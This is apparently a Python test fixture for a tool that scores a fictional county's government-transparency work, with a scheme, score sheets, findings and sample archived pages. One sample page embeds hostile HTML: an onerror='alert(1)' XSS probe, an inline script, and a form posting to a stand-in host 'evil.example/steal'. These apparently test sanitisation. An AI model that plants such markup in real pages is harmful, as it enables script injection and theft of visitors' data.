"""A small invented county: a scheme of eleven items, three units, their sheets and the pages they cite."""

import hashlib
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal

from mingjing.model import (
    About,
    Clean,
    Deduct,
    Earn,
    Evidence,
    Finding,
    Indicator,
    Item,
    ItemScore,
    LevelScore,
    Manual,
    OpenQuestion,
    Outcome,
    Part,
    PartScore,
    Pool,
    PoolScore,
    Scheme,
    ScoreSheet,
    State,
    Unit,
    UnitKind,
    Verify,
)
from mingjing.report import ReportMeta, Seen
from mingjing.scoring import GroupRanking, Loss, Place

META = ReportMeta(
    county="云岫县",
    year=2022,
    as_of=date(2022, 12, 31),
    run_id="2022-12-31-a1b2c3",
    digests=(("评分方案", "5c" * 32), ("网页归档", "7e" * 32)),
)

NOTICE_PAGE = """<!DOCTYPE html><html><head><meta charset="gb2312">
<title>关于《云岫镇农村公厕管护办法（征求意见稿）》公开征求意见的公告</title>
<meta name="PubDate" content="2022-03-01 09:30"><script>document.write("x")</script>
<link rel="stylesheet" href="/css/site.css"></head>
<body onload="track()"><div class="nav"><a href="/">首页</a> &gt; <a href="../zwgk/">政务公开</a> &gt; 意见征集</div>
<h1>关于《云岫镇农村公厕管护办法（征求意见稿）》公开征求意见的公告</h1>
<p>发布日期：2022-03-01　来源：云岫镇人民政府</p><img src="/images/banner.jpg" onerror="alert(1)">
<p>为做好农村公厕管护工作，我镇起草了《云岫镇农村公厕管护办法（征求意见稿）》，现向社会公开征求意见。</p>
<p>征求意见时间：<b>2022年3月1日</b>至
   <span style="color:red">2022年3月11日</span>。</p>
<p>公众可通过网站留言、书面信函等方式提出意见。联系电话：0000-1234567。</p>
<form action="http://evil.example/steal"><input name="q"></form></body></html>"""

GUIDE_PAGE = """<html><head><meta charset="gb2312"><title>云岫镇政府信息公开指南</title></head><body>
<h2>云岫镇政府信息公开指南</h2><p>一、信息分类……</p><p>公开机构：云岫镇党政办公室</p>
<p>办公地址：云岫县云岫镇 人民路1号</p><p>办公时间：工作日 8:30—12:00，14:30—17:30</p></body></html>"""

PAGES = {
    "http://yunxiu.county.example/zwgk/yjzj/202203/t20220301_1.html": NOTICE_PAGE.encode("gb18030"),
    "http://yunxiu.county.example/zwgk/zfxxgkzn/": GUIDE_PAGE.encode("gb18030"),
    "http://yunxiu.county.example/zwgk/": "<h1>政务公开</h1><ul><li>意见征集</li></ul>".encode(),
}


def snapshot(url: str) -> str:
    """The digest of a sample page."""
    return hashlib.sha256(PAGES[url]).hexdigest()


def quote(url: str, words: str = "", place: str = "") -> Evidence:
    """Words of a sample page."""
    return Evidence(url, snapshot(url), words, place)


NOTICE, GUIDE, HOME = PAGES


def seen(evidence: Evidence) -> Seen | None:
    """What the sample's archive holds."""
    payload = PAGES.get(evidence.url)
    if payload is None:
        return None
    return Seen(
        fetched_at=datetime(2023, 1, 4, 2, 3, 4, tzinfo=UTC),
        payload=payload,
        content_type="text/html",
        text=payload.decode("gb18030" if b"gb2312" in payload else "utf-8"),
        final_url=evidence.url,
    )


ABOUTS = {
    "consultation_period": About(
        title="公开征求意见的期限",
        asks="公开征求意见是否不少于规定天数？缩短期限的，是否说明了理由？",
        law=("重大行政决策程序暂行条例", "第十五条"),
        remedy="在公告中写明起止日期；因情况紧急缩短期限的，同时说明理由。",
    ),
    "guide_elements": About(
        title="政府信息公开指南的要素",
        asks="指南是否包括规定的各项内容？",
        law=("中华人民共和国政府信息公开条例", "第十二条"),
        remedy="在公开指南中补齐所缺要素；没有传真的，写明“无”。",
    ),
}


def about_check(name: str) -> About | None:
    """What the sample's checks are about."""
    return ABOUTS.get(name)


def part(name: str, points: str, check: str = "", rule: object = None) -> Part:
    """A part with the default rule of its kind."""
    chosen = rule or (Earn() if check else Manual())
    return Part(name, Decimal(points), check, {}, chosen)  # type: ignore[arg-type]


def item(
    number: int,
    text: str,
    points: str | None,
    *parts: Part,
    verify: str = "网站核查",
    asked: str = "各乡（镇）、各单位",
) -> Item:
    """An item of the sample's scheme."""
    worth = None if points is None else Decimal(points)
    words = verify.removeprefix("↑")
    return Item(number, text, worth, asked, Verify.WEB, words, parts, verify_merged=words != verify)


CONSULTATION = Item(
    number=3,
    text="3.根据决策对社会和公众影响的范围和程度，采取政府网站征集及座谈会、听证会、实地走访等两种以上方式广泛听取意见，公开征求意见的期限一般不少于30日，公开征求意见时发布文件说明4分；30日后，3日内向社会公众反馈相关意见采纳情况，未采纳的意见应说明理由2分。（6分）",
    points=Decimal(6),
    asked_of="各乡（镇）、各单位",
    verify=Verify.WEB,
    verify_words="网上核查",
    verify_merged=True,
    parts=(
        part("期限", "4", "consultation_period"),
        part("反馈", "2", "consultation_feedback"),
    ),
    reading="“不少于30日”按自然日计，公告当日不计入。",
    open_questions=(OpenQuestion("“3日内”是自然日还是工作日？", "暂按工作日"),),
)

SCHEME = Scheme(
    id="yunxiu-2022",
    title="云岫县2022年度政务公开工作考核评分表",
    place="云岫县",
    year=2022,
    full_mark=Decimal(42),
    indicators=(
        Indicator(
            "“五公开”（决策、执行、管理、服务、结果）推进情况",
            Decimal(16),
            (
                Indicator(
                    "重大行政决策公开",
                    Decimal(12),
                    (
                        item(
                            1,
                            "1.制定完善重大行政决策事项目录，列明决策事项、承办部门、决策时间以及是否听证等信息，并向社会公开。（3分）",
                            "3",
                            verify="网上核查",
                            asked="决策目录所涉单位",
                        ),
                        item(
                            2,
                            "2.建立完善社会公众代表列席政府会议制度1分；邀请社会公众代表列席2分。（3分）",
                            "3",
                            verify="网上核查",
                        ),
                        CONSULTATION,
                    ),
                ),
                Indicator(
                    "规划信息公开",
                    Decimal(4),
                    (
                        item(
                            5,
                            "5.在政府网站公开本乡镇、本单位的第十四个五年规划纲要、专项规划和区域规划等，若未制定规划的要在网站上发布说明信息。（2分）",
                            "2",
                            verify="由县发改委、县自然资源局核查",
                        ),
                        item(
                            6,
                            "6.做好历史规划（计划）的归集整理和主动公开工作，无历史规划的要在网站上发布说明信息。（2分）",
                            "2",
                            verify="↑由县发改委、县自然资源局核查",
                        ),
                    ),
                ),
            ),
        ),
        Indicator(
            "政务公开基础工作",
            Decimal(3),
            (
                Indicator(
                    "政府信息公开指南",
                    Decimal(3),
                    (
                        item(
                            18,
                            "18.政府信息公开指南要素齐全，包括政府信息的分类、编排体系、获取方式，政府信息公开工作机构的名称、办公地址、办公时间、联系电话、传真号码、互联网联系方式等内容。（3分）",
                            "3",
                            part("要素齐全", "3", "guide_elements", Deduct(each=Decimal("0.3"))),
                        ),
                    ),
                ),
            ),
        ),
        Indicator(
            "线上线下专区建设",
            Decimal(15),
            (
                Indicator(
                    "政府网站",
                    Decimal(10),
                    (
                        item(
                            26,
                            "26.被省政府办公厅通报3次，被市政府办公室通报扣2分，被县政府办公室通报扣1分。",
                            None,
                            part("通报", "6", "", Clean()),
                            verify="通报核查",
                        ),
                        item(
                            27,
                            "27.因发布错误内容，导致网站被国务院办公厅通报1次，扣3分，被省政府办通报1次，扣2分，被市政府办通报1次，扣1分。",
                            None,
                            part("通报", "6", "", Clean()),
                            verify="↑通报核查",
                        ),
                        item(
                            28,
                            "28.在政府信息公开专栏上按要求发布信息，例如发展规划专栏，只能发布规划。（4分）",
                            "4",
                            asked="各乡（镇）、各相关单位",
                        ),
                    ),
                    pools=(Pool((26, 27), Decimal(6)),),
                ),
                Indicator(
                    "政务公开专区",
                    Decimal(5),
                    (item(32, "32.依托行政服务大厅建设政务公开专区。（5分）", "5", verify="佐证资料核查"),),
                ),
            ),
        ),
        Indicator(
            "特色工作",
            Decimal(8),
            (
                Indicator(
                    "特色工作",
                    Decimal(8),
                    (
                        item(
                            40,
                            "40.因政务公开工作成绩突出，被省领导批示表扬的2分；被市领导批示表扬的1分",
                            "8",
                            verify="佐证资料核查",
                        ),
                    ),
                    synthesised=True,
                ),
            ),
        ),
    ),
    notes=(
        "1.未按要求提供佐证材料的，不予认定。",
        "2.扣分项扣完即止。",
        "3.本次考核，只需提供电子文档材料，文档材料须有佐证链接及网页图片截图。",
    ),
    digest="5c" * 32,
)

NOTICE_TITLE = "关于《云岫镇农村公厕管护办法（征求意见稿）》公开征求意见的公告"

SHORT = Finding(
    Outcome.NOT_MET,
    NOTICE_TITLE,
    "征求意见 10 天，少于 30 天且未说明理由",
    code="short",
    evidence=(quote(NOTICE, "征求意见时间：2022年3月1日至2022年3月11日", "正文第2段"),),
)
NO_FEEDBACK = Finding(
    Outcome.UNCLEAR,
    NOTICE_TITLE,
    "未找到意见采纳情况反馈；但有 1 个网址未能查看（访问超时：http://yunxiu.county.example/zwgk/2.html），不能据此认定没有",
    code="not_seen",
    evidence=(quote(HOME),),
)
ADDRESS = Finding(
    Outcome.MET,
    "云岫镇政府信息公开指南",
    "有办公地址",
    aspect="办公地址",
    evidence=(quote(GUIDE, "办公地址：云岫县云岫镇人民路1号", "正文"),),
)
NO_FAX = Finding(
    Outcome.NOT_MET,
    "云岫镇政府信息公开指南",
    "缺传真号码",
    aspect="传真号码",
    code="missing",
    evidence=(quote(GUIDE, "", "整页"), quote(GUIDE, "传真：无此号码", "正文")),
)


def needs_person(number: int, points: str | None) -> ItemScore:
    """An item at which nobody has looked."""
    worth = None if points is None else Decimal(points)
    return ItemScore(number, worth, None, State.NEEDS_PERSON, "没有检查项，由考核人员核查", (), ())


def scored(number: int, points: str, score: str, reason: str, *parts: PartScore) -> ItemScore:
    """An item the machine has judged."""
    steps = (f"各给分点相加：{score}", f"四舍五入到 0.1 分：{score} 分")
    return ItemScore(number, Decimal(points), Decimal(score), State.SCORED, reason, steps, parts)


def sheet(
    unit: str, group: str, items: Sequence[ItemScore], pool: PoolScore, *, total: str | None = None
) -> ScoreSheet:
    """A unit's sheet; the sums are written down, not computed."""
    decided = Decimal(total) if total else Decimal("6.7")
    return ScoreSheet(
        scheme=SCHEME.id,
        scheme_digest=SCHEME.digest,
        unit=unit,
        group=group,
        items=tuple(items),
        pools=(pool,),
        levels=(LevelScore(("政务公开基础工作",), Decimal(3), Decimal("2.7"), Decimal(3), Decimal(0)),),
        decided=decided,
        decided_max=Decimal(42) if total else Decimal(9),
        open_max=Decimal(0) if total else Decimal(33),
        not_applicable_max=Decimal(0),
        total=Decimal(total) if total else None,
        grade="优秀" if total else "",
        vetoes=(),
        steps=("各项相加",),
        full_mark=Decimal(42),
    )


def open_sheet(unit: str, group: str) -> ScoreSheet:
    """A sheet with faults, open points, an absence and an open pool."""
    period = PartScore(
        "期限",
        Decimal(4),
        Decimal("2.0"),
        State.SCORED,
        "1 件公告期限不足",
        ("1 件中 0.5 件符合", "4 × 0.5 = 2"),
        (SHORT,),
    )
    feedback = PartScore("反馈", Decimal(2), None, State.UNCLEAR, "1 处无法判定", (), (NO_FEEDBACK,))
    elements = PartScore(
        "要素齐全",
        Decimal(3),
        Decimal("2.7"),
        State.SCORED,
        "缺 1 项要素",
        ("3 − 0.3 × 1 = 2.7",),
        (ADDRESS, NO_FAX),
    )
    return sheet(
        unit,
        group,
        (
            ItemScore(1, Decimal(3), None, State.NOT_APPLICABLE, "决策目录不涉及本单位", (), ()),
            needs_person(2, "3"),
            ItemScore(
                3,
                Decimal(6),
                None,
                State.UNCLEAR,
                "反馈无法判定",
                ("期限 2 分，反馈待核",),
                (period, feedback),
            ),
            scored(5, "2", "2", "已公开规划"),
            needs_person(6, "2"),
            scored(18, "3", "2.7", "缺 1 项要素", elements),
            needs_person(26, None),
            needs_person(27, None),
            scored(28, "4", "0", "未设专栏"),
            needs_person(32, "5"),
            needs_person(40, "8"),
        ),
        PoolScore((26, 27), Decimal(6), None, State.NEEDS_PERSON, ()),
    )


def closed_sheet(unit: str, group: str) -> ScoreSheet:
    """A sheet on which everything is decided."""
    return sheet(
        unit,
        group,
        (
            scored(1, "3", "3", "已公开"),
            scored(2, "3", "3", "已建立"),
            scored(3, "6", "6.0", "均符合"),
            scored(5, "2", "2", "已公开规划"),
            scored(6, "2", "1.5", "部分公开"),
            scored(18, "3", "3.0", "要素齐全"),
            ItemScore(26, None, Decimal(-1), State.RULED, "县政府办公室通报 1 次", (), ()),
            ItemScore(27, None, Decimal(0), State.RULED, "未被通报", (), ()),
            scored(28, "4", "3.2", "2 条信息放错栏目"),
            scored(32, "5", "4.5", "四项服务中有三项"),
            scored(40, "8", "1", "市领导批示表扬 1 次"),
        ),
        PoolScore((26, 27), Decimal(6), Decimal(5), State.RULED, ("6 − 1 = 5",)),
        total="32.2",
    )


UNITS = (
    Unit("云岫镇", UnitKind.TOWNSHIP, "乡镇", (HOME,)),
    Unit("松溪乡", UnitKind.TOWNSHIP, "乡镇", ("http://songxi.county.example/",)),
    Unit("县教育局", UnitKind.DEPARTMENT, "县直单位", ("http://jy.county.example/",)),
)
SHEETS = (
    open_sheet("云岫镇", "乡镇"),
    open_sheet("松溪乡", "乡镇"),
    closed_sheet("县教育局", "县直单位"),
)


RANKING = (
    GroupRanking(
        "乡镇",
        (
            Place("云岫镇", 1, Decimal("0.7444"), tied=True),
            Place("松溪乡", 1, Decimal("0.7444"), tied=True),
        ),
        final=False,
    ),
    GroupRanking("县直单位", (Place("县教育局", 1, Decimal("0.9"), tied=False),), final=True),
)
LOSSES = (Loss(28, Decimal("8.8"), 3), Loss(40, Decimal(7), 1), Loss(18, Decimal("0.6"), 2))
